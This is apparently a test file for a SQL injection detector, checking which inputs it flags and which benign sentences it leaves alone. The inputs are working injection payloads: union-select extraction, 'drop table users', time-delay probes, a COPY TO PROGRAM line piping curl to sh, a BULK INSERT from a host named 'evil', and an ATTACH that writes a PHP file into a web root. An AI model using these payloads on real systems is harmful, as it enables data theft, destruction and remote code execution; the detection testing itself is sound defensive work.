import { describe, expect, it } from 'vitest'
import { dialectComment } from '../../src/detect/sqli/lexemes.js'
import { tokenize } from '../../src/detect/sqli/tokenize.js'
import { BENIGN, direct, flagsAndLeaves, p1 } from './helpers.js'

/** The tokens of `s` as `kind:value` (with `other`, the reading of the other dialects). */
const kinds = (s: string, other = false) => {
  const r = tokenize(s, 0, Number.POSITIVE_INFINITY, other)
  return r.toks.slice(0, r.n).map((t) => `${t.t}:${t.v}`)
}

// `#` is a comment in MySQL only (PostgreSQL's bitwise XOR, a temporary table's prefix in SQL
// Server), and MySQL's `--` comment needs a blank after it (`1--1` is 1 minus -1). What either
// hides from one dialect runs on the other.
describe('SQL: comments only some dialects write or run', () => {
  flagsAndLeaves(
    [
      // PostgreSQL: `#` is an operator, the rest runs
      ['1#1 union select 1,version()--', 'sqli-union-select'],
      ['1 # 2 union select null,current_user--', 'sqli-union-select'],
      ['1 # 1; select pg_sleep(5)--', 'sqli-time-function'],
      // MySQL: `--` glued to a value is two minus signs
      ['1--1 union select 1,version()#', 'sqli-union-select'],
      ['1--1;select sleep(5)', 'sqli-time-function'],
      ['0--1 or 1=1', 'sqli-tautology'],
      // MariaDB runs what its own executable comment holds, as MySQL and MariaDB run `/*!…*/`
      ['1 /*M!100000 union select */ 1,version()', 'sqli-union-select'],
      ['1/*M!50000union*//*M!50000select*/1,version()', 'sqli-union-select'],
      ['/*M!50000 1/0 */', 'sqli-statement-comment'],
      // SQL Server runs a batch's statements without a `;` between them
      ['1 drop table users--', 'sqli-stacked-query'],
      ['1 shutdown #', 'sqli-stacked-query'],
      ['1 declare @x int--', 'sqli-stacked-query'],
      ["5 insert into users values (1,'a')--", 'sqli-stacked-query'],
      ['1/**/drop table users -- ', 'sqli-stacked-query'],
      // a `#` of chat before a query hides nothing from the anywhere rules
      ['see #42 then -1 union select 1,user()--', 'sqli-union-select'],
      ['C# rocks -1 union select 1,user()--', 'sqli-union-select'],
    ],
    [
      // `-- ` with its blank is a comment in every dialect: a signature stays one
      'Thanks! -- Bob union select the best',
      'Reminder: the sync moved to Thursday #scheduling or 1',
      'run it with --verbose and select the union of both',
      'I love C# and F# -- they select well',
      'PR #4211 and #4212 are merged; select one for the demo',
      'I said /*M! hello */ to you',
      // (a signature is no comment of an attack; without a comment the number may be prose's)
      '3 delete from the list -- Bob',
      '2 drop table tennis is fun -- Bob',
      '1 drop table at the back, please',
    ],
    true,
  )

  it.each(['1 drop table users -- -', '1 drop table users -- 1', '1#1 union select 1,version()--'])(
    'finds %j as a value and in a frame, past the line-rate pass',
    (s) => {
      expect(p1.first(s)).not.toBeNull()
      expect(p1.first(JSON.stringify({ type: 'chat', text: s }))).not.toBeNull()
    },
  )

  it('reads what the comment hid in a frame and inside a long text too', () => {
    expect(p1.first(JSON.stringify({ type: 'chat', text: '1#1 union select 1,version()--' }))?.rule).toBe(
      'sqli-union-select',
    )
    const prose = 'We walked to the harbour and watched the boats come in for the evening. '.repeat(30)
    expect(p1.first(`${prose} see #42 then -1 union select 1,user()-- ${prose}`)?.rule).toBe(
      'sqli-union-select',
    )
  })

  // (the comment read as one is evidence of its own: the first reading names these, as before)
  it.each([
    ["admin'#", 'sqli-comment-truncation'],
    ["1' AND SLEEP(5)#", 'sqli-blind-function'],
    ["' OR 1=1--", 'sqli-tautology'],
    ['1 ORDER BY 3#', 'sqli-order-by'],
    ["1' or 1=1#", 'sqli-tautology'],
  ])('names %j %s as the MySQL reading does', (s, rule) => {
    expect(p1.first(s)?.rule).toBe(rule)
  })

  it('tokenizes `#` and a glued `--` as operators only in the other reading', () => {
    expect(kinds('1#1 x', false)).toEqual(['n:1', 'c:#1 x'])
    expect(kinds('1#1 x', true)).toEqual(['n:1', 'o:#', 'n:1', 'w:x'])
    expect(kinds('1--1 x', true)).toEqual(['n:1', 'o:-', 'o:-', 'n:1', 'w:x'])
    // (a blank after it, or the end: a comment in MySQL too)
    expect(kinds('1-- x', true)).toEqual(['n:1', 'c:-- x'])
    expect(kinds('1--', true)).toEqual(['n:1', 'c:--'])
    expect(kinds('1#a\n2', false)).toEqual(['n:1', 'c:#a', 'n:2'])
    // (an executable comment's content is code, MySQL's or MariaDB's)
    expect(kinds('/*M!50000union*/', false)).toEqual(['w:union'])
    expect(kinds('/*!union*/', false)).toEqual(['w:union'])
    expect(kinds('/*m x*/', false)).toEqual(['c:/*m x*/'])
  })

  it('finds where the first such comment stands', () => {
    expect(dialectComment('a -- b --c #d')).toBe(7)
    expect(dialectComment('a -- b #d --c')).toBe(7)
    expect(dialectComment('a -- b')).toBe(-1)
    expect(dialectComment('a--')).toBe(-1)
    expect(dialectComment('x#')).toBe(1)
  })

  it.each(BENIGN)('leaves %j alone', (s) => {
    expect(p1.first(s)).toBeNull()
  })
})

describe('SQL: statements one server runs', () => {
  flagsAndLeaves(
    [
      // SQL Server: a group closed first, then a statement without a `;`
      ['1) drop table users--', 'sqli-stacked-query'],
      ['1)) shutdown #', 'sqli-stacked-query'],
      // SQLite's ATTACH writes a file; SQL Server's BULK INSERT reads one
      ["1; attach database '/var/www/lol.php' as lol--", 'sqli-stacked-query'],
      ["x'; attach '/var/www/lol.php' as lol--", 'sqli-stacked-query'],
      ["1; bulk insert t from '\\\\evil\\x'--", 'sqli-stacked-query'],
      ['1; delete from users--', 'sqli-stacked-query'],
      ["x'; insert into users values ('a','b')--", 'sqli-stacked-query'],
      ['1; delete ignore from users', 'sqli-stacked-query'],
      ['1; insert into a select * from b', 'sqli-stacked-query'],
      // PostgreSQL's COPY to or from a file, a program or the client
      ["1; copy (select '') to program 'id'--", 'sqli-stacked-query'],
      ["x'; copy t from program 'curl x|sh'--", 'sqli-stacked-query'],
      ['1; copy users to stdout', 'sqli-stacked-query'],
      ['1; shutdown with nowait--', 'sqli-stacked-query'],
      ["'; shutdown;--", 'sqli-stacked-query'],
      ['1; truncate users', 'sqli-stacked-query'],
    ],
    [
      'please attach the file; attach it to the ticket',
      'we met; attach database docs to the wiki',
      'ok; bulk insert is fast in sql server',
      // (a determiner names no table)
      'ok; delete from the list',
      'ok; insert into the form',
      'done; delete from my notes please',
      'sure; copy it from the wiki',
      'sure; copy this to the doc',
      'ok; truncate the log tonight',
      'ok; shutdown the server tonight',
    ],
    true,
  )

  it.each(['1; bulk insert t from x', "1; bulk insert t from 'x'", 'ok; copy t from stdin'])(
    'reads %j past the line-rate pass as in full',
    (s) => {
      expect(p1.first(s)?.rule ?? null).toBe(direct(s))
    },
  )
})

// PostgreSQL's JSON containment `@>` and text search `@@`, and the JSON paths `->` / `->>` of
// PostgreSQL and MySQL, are operators of a condition like `=`.
describe('SQL: the JSON and text search operators', () => {
  flagsAndLeaves(
    [
      ["1' and '{\"a\":1}'::jsonb @> '{\"a\":1}'--", 'sqli-tautology'],
      ["1' and data @> '{}' union select 1,version()--", 'sqli-tautology'],
      ["1' and x @@ 'y'--", 'sqli-tautology'],
      ["1' and x->>'a'='1'--", 'sqli-tautology'],
      ["1 and doc->'$.a'=1", 'sqli-tautology'],
      ["' or doc->>'$.role' = 'admin'#", 'sqli-tautology'],
    ],
    ["click 'Save'->'Close' then 'OK'", "email me @> 5 'ok' or not", 'ping @@ team: the build is green'],
    true,
  )

  it('tokenizes `@>` and `@@` before a blank as operators, `@@name` as a variable', () => {
    expect(kinds('a @> b')).toEqual(['w:a', 'o:@>', 'w:b'])
    expect(kinds('a @@ b')).toEqual(['w:a', 'o:@@', 'w:b'])
    expect(kinds('a->>b')).toEqual(['w:a', 'o:->>', 'w:b'])
    expect(kinds('@@version')).toEqual(['v:@@version'])
    expect(kinds(';@@#x')).toEqual([';:;', 'v:@@', 'c:#x'])
  })
})

// A string literal may carry a prefix glued to its quote: SQL Server's national N'…', the hex and
// bit strings X'…' and B'…', PostgreSQL's escape string E'…', Oracle's q'…', MySQL's charset
// introducer _utf8'…'. The prefixed literal is a value as the bare one is.
describe('SQL: typed string literals and delimited names', () => {
  flagsAndLeaves(
    [
      ["1' and N'a'=N'a'--", 'sqli-tautology'],
      ["1' and X'41'='A'--", 'sqli-tautology'],
      ["1' and b'1'=b'1'--", 'sqli-tautology'],
      ["1' and E'\\x27'=E'\\x27'--", 'sqli-tautology'],
      ["1' and _utf8'a'=_utf8'a'--", 'sqli-tautology'],
      ["1' and q'[a]'=q'[a]'--", 'sqli-tautology'],
      ["' or 'text' = N'text'", 'sqli-tautology'],
    ],
    ["I'm at b'day party", "the n'th time", "rock n' roll 'or' jazz", "e'er and ne'er"],
    true,
  )

  // SQL Server's delimited names are names as bare ones are
  flagsAndLeaves(
    [
      ["1' or [a]=[a]--", 'sqli-tautology'],
      ["1' union select [name] from [sys].[tables]--", 'sqli-union-select'],
    ],
    ['pick [a] or [b]', "see [1] and [x, y] or [the docs](http://x) 'a' or 'b'"],
    true,
  )

  it('reads the prefix and the literal as one string token', () => {
    expect(kinds("n'a'=x'41'")).toEqual(['q:a', 'o:=', 'q:41'])
    expect(kinds("_utf8'a' nq'b'")).toEqual(['q:a', 'q:b'])
    // (any other word before a quote stays a word; an open literal stays open)
    expect(kinds("z'a'")).toEqual(['w:z', 'q:a'])
    expect(kinds("n'a")).toEqual(['w:n', 'Q:a'])
    // a delimited name is a word; `[1]`, `[x, y]` and a link's `[text](` are not
    expect(kinds('[order details].[a]')).toEqual(['w:order details', 'o:.', 'w:a'])
    expect(kinds('[1]')).toEqual(['x:[', 'n:1', 'x:]'])
    expect(kinds('[a](')).toEqual(['x:[', 'w:a', 'x:]', '(:('])
  })
})

// A value that is a whole CASE branch on a test of two literals (an ORDER BY injection, sqlmap's
// boolean probe), and a time function after MySQL's pattern tests, which no sentence writes.
describe('SQL: a constant branch alone, a delay after RLIKE', () => {
  flagsAndLeaves(
    [
      ['(CASE WHEN 4518=5617 THEN 1 ELSE NULL END)', 'sqli-blind-function'],
      ['case when 7=7 then 1 else 2 end', 'sqli-blind-function'],
      ['1 RLIKE SLEEP(5)', 'sqli-time-function'],
      ['x regexp sleep(5)', 'sqli-time-function'],
    ],
    [
      'in case when you see 5 = 5 ok',
      'just in case, when we meet',
      '(case when x then 1 end)',
      'it looks like sleep(5) hangs',
    ],
    true,
  )
})
